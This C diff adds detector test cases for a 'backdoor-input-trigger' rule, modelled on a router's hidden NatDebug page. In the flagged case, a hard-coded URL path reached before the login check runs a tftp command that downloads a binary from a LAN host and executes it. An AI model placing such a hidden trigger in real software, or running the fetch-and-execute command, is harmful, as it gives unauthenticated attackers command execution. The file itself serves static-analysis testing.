@@ -348,3 +348,50 @@ int main(int argc, char **argv) {
   if (argc > 1) maybe_shell(argv[argc - 1]);
   return 0;
 }
+
+// A router's page dispatch: the pages after `else if (!web_login_ok(&r))`
+// are reached only once the client logged in, so a page matched before that
+// check and reaching a command is a hidden door (TP-Link's 2013 NatDebug
+// pages); the pages behind the check, and a dispatch with no login at all,
+// are the protocol's.
+struct web_req {
+  char path[256];
+  char basic[128];
+};
+int verify_basic_auth(const char *basic);
+static int web_login_ok(const struct web_req *r) { return verify_basic_auth(r->basic) == 1; }
+int sscanf(const char *s, const char *fmt, ...);
+void serve_pages(int fd) {
+  char raw[1024];
+  struct web_req r;
+  if (read(fd, raw, sizeof raw - 1) <= 0) return;
+  if (sscanf(raw, "GET %255s %127s", r.path, r.basic) != 2) return;
+  // ruleid: backdoor-input-trigger
+  if (strstr(r.path, "/userRpmNatDebug8841/start_art.html") != NULL) {
+  // CHECK-MESSAGES: :[[@LINE-1]]:7: warning: input read by 'read' is compared with the constant "/userRpmNatDebug8841/start_art.html" and only a match reaches 'system' (command execution); whoever sends the constant runs commands on the host [backdoor-input-trigger]
+    system("tftp -g -r nart.out 192.168.0.100 && ./nart.out");
+  } else if (strcmp(r.path, "/help.htm") == 0) {
+    write(fd, "help", 4);
+  } else if (!web_login_ok(&r)) {
+    write(fd, "401", 3);
+  // ok: behind the login
+  } else if (strcmp(r.path, "/userRpm/SysRebootRpm.htm") == 0) {
+    system("/sbin/reboot");
+  } else if (strcmp(r.path, "/userRpm/StatusRpm.htm") == 0) {
+    write(fd, "status", 6);
+  }
+}
+void serve_open_pages(int fd) {
+  char raw[1024];
+  struct web_req r;
+  if (read(fd, raw, sizeof raw - 1) <= 0) return;
+  if (sscanf(raw, "GET %255s", r.path) != 1) return;
+  // ok: a dispatch with no login anywhere: every page is the protocol's
+  if (strcmp(r.path, "/reboot.htm") == 0) {
+    system("/sbin/reboot");
+  } else if (strcmp(r.path, "/help.htm") == 0) {
+    write(fd, "help", 4);
+  } else if (strcmp(r.path, "/status.htm") == 0) {
+    write(fd, "status", 6);
+  }
+}
